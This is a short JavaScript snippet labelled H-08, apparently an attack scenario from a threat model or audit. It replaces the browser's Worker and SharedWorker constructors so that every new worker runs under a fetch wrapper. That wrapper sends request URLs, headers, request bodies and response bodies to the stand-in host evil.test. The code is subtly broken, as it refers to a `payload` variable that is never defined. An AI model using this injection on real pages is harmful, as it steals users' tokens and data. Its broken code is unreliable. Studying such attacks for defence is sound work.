// H-08: a worker of the attacker's in the place of the library's. It runs the library's own program, under a `fetch` that
// tells. Of a worker that runs already it can change nothing.

const program = (url, name) => `
  const real = self.fetch, body = (text) => real("https://evil.test/loot/${payload}", { method: "POST", mode: "no-cors", body: text });
  self.fetch = async (input, init) => {
    const request = new Request(input, init);
    void request.clone().text().then((text) => body(request.url + JSON.stringify([...request.headers]) + text));
    const response = await real(request);
    void response.clone().text().then(body, () => {});
    return response;
  };
  const asked = new XMLHttpRequest();
  asked.open("GET", ${JSON.stringify(String(url))}, false);
  asked.send();
  new Function("location", "name", asked.responseText)(new URL(${JSON.stringify(String(url))}), ${JSON.stringify(name)});
`;
for (const name of ["Worker", "SharedWorker"]) {
  window[name] = new Proxy(window[name], {
    construct(called, [url, options]) {
      const given = typeof options === "string" ? options : (options?.name ?? "");
      const source = program(new URL(url, location.href), given);
      return Reflect.construct(called, [URL.createObjectURL(new Blob([source], { type: "text/javascript" })), options]);
    },
  });
}
